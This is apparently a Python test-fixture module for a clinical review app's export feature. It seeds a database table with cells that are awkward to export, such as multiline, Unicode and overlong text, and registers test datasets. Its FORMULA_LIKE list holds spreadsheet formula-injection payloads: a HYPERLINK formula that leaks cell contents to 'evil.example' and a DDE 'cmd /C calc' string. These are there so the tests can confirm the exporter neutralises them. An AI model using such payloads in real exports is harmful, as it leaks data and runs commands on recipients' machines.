"""A dataset for the export tests: a table of its own holding every kind of awkward cell.

The rows come back through a streamed SQLAlchemy query, as a real plugin's would, so the tests see what
the database (SQLite or PostgreSQL) really returns: dates, naive or aware times, booleans, numbers.
"""
from __future__ import annotations

from datetime import date, datetime, timezone

from sqlalchemy import (Boolean, Column, Date, DateTime, Float, Integer, MetaData, String, Table, Text,
                        func, select)

from pathway_review import hookimpl
from pathway_review.contracts import Dataset, DatasetFilter
from pathway_review.db import get_session

title = "Export test records"
metadata = MetaData()
records = Table(
    "export_fixture_record", metadata,
    Column("id", Integer, primary_key=True),
    Column("board", String(32)),
    Column("status", String(16)),
    Column("kind", String(32)),
    Column("safety", Boolean),
    Column("submitted_on", Date),
    Column("updated_at", DateTime(timezone=True)),
    Column("comment", Text),
    Column("minutes", Float),
    Column("votes", Integer),
    Column("deliverable", String(16)),
    Column("author_name", String(128)),
    Column("author_email", String(254)),
)

FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+44 131 555 0100",
    "-2 weeks of waiting before referral",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]
AWKWARD = [
    "'Already starts with an apostrophe",
    "Line one\nLine two\nLine three",
    "Windows line\r\nending",
    'He said "refer now", then left',
    "comma, separated, values",
    "Emoji 🩺😀👍🏽 and accents: café, Ærø, naïve",
    "Right to left: مرحبا بالعالم — שלום עולם",
    "  leading and trailing spaces  ",
    "_x0041_ looks like an Excel escape",
    "Pasted from Word\x0bwith a vertical tab",
    "",
]
LONG_TEXT = "A very long comment. " * 2000  # beyond Excel's 32,767 characters in a cell

BOARDS, STATUSES, KINDS = ("lothian", "fife", "tayside"), ("new", "triaged", "answered"), ("red-flags", "other")
PEOPLE = [("Dr Morag Lothian", "morag@lothian.example"), ("Dr Ewan Fife", "Ewan@Fife.example"),
          ("Dr Aisha Tayside", "aisha@tayside.example")]


def source_rows() -> list[dict]:
    """What the table holds, in id order."""
    texts = FORMULA_LIKE + AWKWARD + [LONG_TEXT, None]
    numbers = [0, -3, 2.5, None, -0.125, 1e-7, 123456789.5]
    rows = []
    for i, text in enumerate(texts, start=1):
        name, email = PEOPLE[i % len(PEOPLE)]
        rows.append({
            "id": i,
            "board": BOARDS[i % 3],
            "status": STATUSES[(i // 3) % 3],
            "kind": KINDS[i % 2],
            "safety": [True, False, None][i % 3],
            "submitted_on": date(2026, 11, 1 + i),
            "updated_at": None if i == 5 else datetime(2026, 11, 1 + i, 9, 30, i, tzinfo=timezone.utc),
            "comment": text,
            "minutes": numbers[i % len(numbers)],
            "votes": [7, -1, 0, None][i % 4],
            "deliverable": ["yes", "no", "=not sure", None][i % 4],
            "author_name": None if i == 4 else name,
            "author_email": None if i == 4 else email,
        })
    return rows


COLUMNS = ["id", "board", "status", "kind", "safety", "submitted_on", "updated_at", "comment", "minutes",
           "votes", "answer:deliverable", "author_name", "author_email"]
FILTERS = [
    DatasetFilter("board", "Board", "choice", BOARDS),
    DatasetFilter("status", "Status", "choice", STATUSES),
    DatasetFilter("safety", "Patient safety concern", "bool"),
    DatasetFilter("submitted_from", "Submitted from", "date"),
    DatasetFilter("submitted_to", "Submitted to", "date"),
    DatasetFilter("author", "Author email", "text"),
]


def _where(query, filters):
    t = records.c
    for name, column in (("board", t.board), ("status", t.status), ("safety", t.safety),
                         ("author", t.author_email)):
        if name in filters:
            query = query.where(column == filters[name])
    if "submitted_from" in filters:
        query = query.where(t.submitted_on >= filters["submitted_from"])
    if "submitted_to" in filters:
        query = query.where(t.submitted_on <= filters["submitted_to"])
    return query


def _rows(filters):
    t = records.c
    query = _where(select(*[t[c] for c in records.c.keys() if c != "deliverable"],
                          t.deliverable.label("answer:deliverable")), filters).order_by(t.id)
    result = get_session().execute(query.execution_options(yield_per=5))
    for row in result.mappings():
        yield row


def _summary(filters):
    out = {}
    for heading, column in (("By board", records.c.board), ("By status", records.c.status),
                            ("By kind", records.c.kind)):
        query = _where(select(column, func.count()).group_by(column).order_by(column), filters)
        out[heading] = [(label, count) for label, count in get_session().execute(query)]
    return out


def _admin_rows(filters):
    yield {"id": 1, "note": "for site admins only"}


def _broken_rows(filters):
    raise RuntimeError("the records could not be read")
    yield {}  # pragma: no cover


@hookimpl
def datasets():
    return [
        Dataset(name="records", title="Test records", filter_specs=FILTERS, columns=lambda f: list(COLUMNS),
                rows=_rows, summary=_summary, personal_columns=("author_name", "author_email")),
        Dataset(name="admin-only", title="Admin records", filter_specs=[], columns=lambda f: ["id", "note"],
                rows=_admin_rows, roles=frozenset({"admin"})),
        Dataset(name="broken", title="Broken records", filter_specs=[], columns=lambda f: ["id"],
                rows=_broken_rows),
    ]


@hookimpl
def app_started(app):
    engine = app.extensions["pathway_review.db"].engine
    metadata.create_all(engine)
    with engine.begin() as connection:
        if connection.scalar(select(func.count()).select_from(records)) == 0:
            connection.execute(records.insert(), source_rows())
